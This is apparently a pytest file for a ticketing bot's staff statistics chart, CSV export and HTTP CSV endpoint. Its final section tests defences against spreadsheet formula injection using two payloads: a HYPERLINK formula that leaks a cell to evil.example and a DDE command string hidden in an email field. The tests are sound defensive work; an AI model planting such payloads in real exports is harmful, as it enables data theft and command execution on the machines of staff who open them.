"""Staff's pictures of an event: the /stats chart is a real PNG whose caption's figures are the
store's, the /export document and the HTTP API's CSV parse with Python's csv module and keep
accents, and the HTTP export streams in chunks. Both are audited."""

from __future__ import annotations

import csv
import datetime as dt
import io
import time

import pytest
from aiohttp.test_utils import TestClient, TestServer
from PIL import Image
from sqlalchemy import func, select, update

from bot.http.app import create_api
from bot.http.kernel import ApiServices
from bot.metrics import Metrics
from conversations.presentation import ticket_export
from storage import services
from storage.models import ActorKind, AuditEntry, Ticket, TicketState
from tests.conftest import sample_document
from tests.factories import make_event, make_order
from tests.harness import close_harness, open_harness

STAFF, BUYER = 9001, 1001
TOKEN = "api-token"


@pytest.fixture
async def harness(store):
    opened = await open_harness(store, staff_ids=frozenset({STAFF}))
    try:
        yield opened
    finally:
        await close_harness(opened)


async def personalised_order(harness) -> dict[str, int]:
    """An order of four tickets: one claimed by the buyer (named with accents), one sent to
    a friend, one used at the gate, one still to assign."""
    await harness.import_orders(sample_document(tickets=4, language="fr"))
    buyer = harness.user(BUYER, "Zoé", "Lefèvre", language_code="fr")
    await buyer.start(await harness.order_link("DF-100000"))
    async with harness.store.read() as session:
        ids = dict((await session.execute(select(Ticket.ref, Ticket.id))).all())
    await services.claim_for_myself(harness.store, BUYER, ids["T-DF-100000-1"], "Zoé Lefèvre")
    await services.claim_for_myself(harness.store, BUYER, ids["T-DF-100000-3"], "Anaïs Çelik")
    await services.invite_friend(harness.store, BUYER, ids["T-DF-100000-2"], "ami@exemple.fr")
    async with harness.store.write() as session:
        await session.execute(update(Ticket).where(Ticket.id == ids["T-DF-100000-3"]).values(
            used_at=dt.datetime(2027, 7, 17, 12, 30, tzinfo=dt.UTC)))
    return ids


async def staff_audit(store, action: str) -> list[AuditEntry]:
    async with store.read() as session:
        return list(await session.scalars(select(AuditEntry).where(
            AuditEntry.action == action, AuditEntry.actor_kind == ActorKind.STAFF)))


async def test_stats_is_a_chart_whose_caption_has_the_stores_figures(harness):
    await personalised_order(harness)
    support = harness.user(STAFF, "Sam", "Support", language_code="fr")
    started = time.perf_counter()
    answer = await support.send("/stats fest-sat", timeout=30)
    print(f"/stats answered in {time.perf_counter() - started:.2f} s")
    picture = answer.last
    assert picture.media["type"] == "photo"
    image = Image.open(io.BytesIO(harness.emulator.media.content(picture.media["file_id"])))
    assert image.format == "PNG" and 600 <= image.width <= 2000 and 300 <= image.height <= 1200
    caption = picture.text
    assert "Dreamfest 2027 — Saturday" in caption
    assert "4 billets au total" in caption
    for state, count in [("à attribuer", 1), ("en attente", 1), ("complété", 1),
                         ("en revente", 0), ("utilisé", 1)]:
        assert f"{state} : {count}" in caption.lower()
    assert "Attributions : 2 en 1 jour" in caption
    assert len(await staff_audit(harness.store, "staff_viewed_stats")) == 1


async def test_stats_of_an_unknown_event_is_refused_clearly(harness):
    support = harness.user(STAFF, "Sam", "Support", language_code="en")
    assert (await support.send("/stats nope")).text == "There is no event nope."
    assert (await support.send("/stats")).text == "Usage: /stats EVENT"
    assert await staff_audit(harness.store, "staff_viewed_stats") == []


async def test_export_is_a_csv_document_that_round_trips_accents(harness):
    await personalised_order(harness)
    support = harness.user(STAFF, "Sam", "Support", language_code="fr")
    document = (await support.send("/export fest-sat", timeout=30)).last
    assert document.media["type"] == "document"
    data = harness.emulator.media.content(document.media["file_id"])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["Référence", "Commande", "Catégorie", "État", "Titulaire",
                       "E-mail d’invitation", "Code-barres", "Scanné le", "Prix"]
    by_ref = {row[0]: row for row in rows[1:]}
    assert len(by_ref) == 4
    assert by_ref["T-DF-100000-1"][3:5] == ["complété", "Zoé Lefèvre"]
    assert by_ref["T-DF-100000-2"][3] == "en attente"
    assert by_ref["T-DF-100000-2"][5] == "ami@exemple.fr"
    assert by_ref["T-DF-100000-3"][3:5] == ["utilisé", "Anaïs Çelik"]
    assert "17 juil. 2027" in by_ref["T-DF-100000-3"][7]
    assert by_ref["T-DF-100000-4"][3:5] == ["à attribuer", ""]
    async with harness.store.read() as session:
        barcodes = dict((await session.execute(select(Ticket.ref, Ticket.barcode))).all())
    assert {ref: row[6] for ref, row in by_ref.items()} == barcodes
    assert len(await staff_audit(harness.store, "staff_exported")) == 1


async def test_the_http_export_streams_a_large_event_in_chunks(store):
    await make_event(store)
    for _ in range(30):
        await make_order(store, tickets=400)  # 12,000 tickets: several pages
    async with store.write() as session:
        await session.execute(update(Ticket).where(Ticket.id % 7 == 0).values(
            state=TicketState.COMPLETED, holder_name="Émile Zoëlle", name_key=Ticket.ref))
    app = create_api(ApiServices(store=store, api_token=TOKEN, bot_username=lambda: "bot",
                                 metrics=Metrics()))
    async with TestClient(TestServer(app)) as client:
        refused = await client.get("/api/events/fest-sat/tickets.csv")
        assert refused.status == 401
        missing = await client.get("/api/events/nope/tickets.csv",
                                   headers={"Authorization": f"Bearer {TOKEN}"})
        assert missing.status == 404 and (await missing.json())["error"] == "staff_no_event"
        bad = await client.get("/api/events/fest-sat/tickets.csv?lang=de",
                               headers={"Authorization": f"Bearer {TOKEN}"})
        assert bad.status == 400
        response = await client.get("/api/events/fest-sat/tickets.csv?lang=en",
                                    headers={"Authorization": f"Bearer {TOKEN}"})
        assert response.status == 200
        assert response.headers["Transfer-Encoding"] == "chunked"
        assert response.headers["Content-Type"].startswith("text/csv")
        pieces = [piece async for piece in response.content.iter_any()]
    data = b"".join(pieces)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][0] == "Reference" and len(rows) == 1 + 12000
    named = [row for row in rows[1:] if row[3] == "completed"]
    assert named and {row[4] for row in named} == {"Émile Zoëlle"}
    async with store.read() as session:
        assert await session.scalar(select(func.count()).select_from(AuditEntry).where(
            AuditEntry.action == "staff_exported")) == 1


async def test_the_export_pages_by_key_and_misses_no_ticket(store):
    await make_event(store)
    for _ in range(3):
        await make_order(store, tickets=7)
    pieces = [piece async for piece in ticket_export.ticket_csv(store, "fest-sat", "en", page=5)]
    assert len(pieces) == 5  # 21 tickets in pages of 5: four full pages and one of 1
    rows = list(csv.reader(io.StringIO("".join(pieces).lstrip("\ufeff"))))
    assert len({row[0] for row in rows[1:]}) == 21


# --- formulas in cells (review of issue 22) ----------------------------------------------------

FORMULA_NUMBER = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FORMULA_EMAIL = "=cmd|'/Ccalc'!A0@example.com"


async def order_with_formulas(harness) -> None:
    """The review's inputs: an order number from the shop and an invitation address that a
    spreadsheet would run as formulas."""
    document = sample_document(tickets=2)
    document["orders"][0]["number"] = FORMULA_NUMBER
    for position, ticket in enumerate(document["orders"][0]["tickets"], start=1):
        ticket["ref"] = f"+T-{position}" if position == 2 else f"T-{position}"
    await harness.import_orders(document)
    async with harness.store.read() as session:
        ids = dict((await session.execute(select(Ticket.ref, Ticket.id))).all())
    buyer = harness.user(BUYER, "Zoé", "Lefèvre", language_code="fr")
    await buyer.start(await harness.order_link(FORMULA_NUMBER))
    await services.invite_friend(harness.store, BUYER, ids["T-1"], FORMULA_EMAIL)


def assert_no_formula(rows: list[list[str]]) -> None:
    by_ref = {row[0]: row for row in rows[1:]}
    assert set(by_ref) == {"T-1", "'+T-2"}
    assert by_ref["T-1"][1] == "'" + FORMULA_NUMBER
    assert by_ref["T-1"][5] == "'" + FORMULA_EMAIL
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(ticket_export.FORMULA_STARTS) for cell in cells)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_each_formula_start_is_neutralised(cell):
    assert ticket_export.spreadsheet_safe(cell) == "'" + cell
    assert ticket_export.spreadsheet_safe("Zoé " + cell) == "Zoé " + cell


async def test_export_neutralises_formulas_in_cells(harness):
    await order_with_formulas(harness)
    support = harness.user(STAFF, "Sam", "Support", language_code="fr")
    document = (await support.send("/export fest-sat", timeout=30)).last
    data = harness.emulator.media.content(document.media["file_id"])
    assert_no_formula(list(csv.reader(io.StringIO(data.decode("utf-8-sig")))))


async def test_the_http_export_neutralises_formulas_in_cells(harness):
    await order_with_formulas(harness)
    app = create_api(ApiServices(store=harness.store, api_token=TOKEN,
                                 bot_username=lambda: "bot", metrics=Metrics()))
    async with TestClient(TestServer(app)) as client:
        response = await client.get("/api/events/fest-sat/tickets.csv",
                                    headers={"Authorization": f"Bearer {TOKEN}"})
        data = await response.read()
    assert_no_formula(list(csv.reader(io.StringIO(data.decode("utf-8-sig")))))
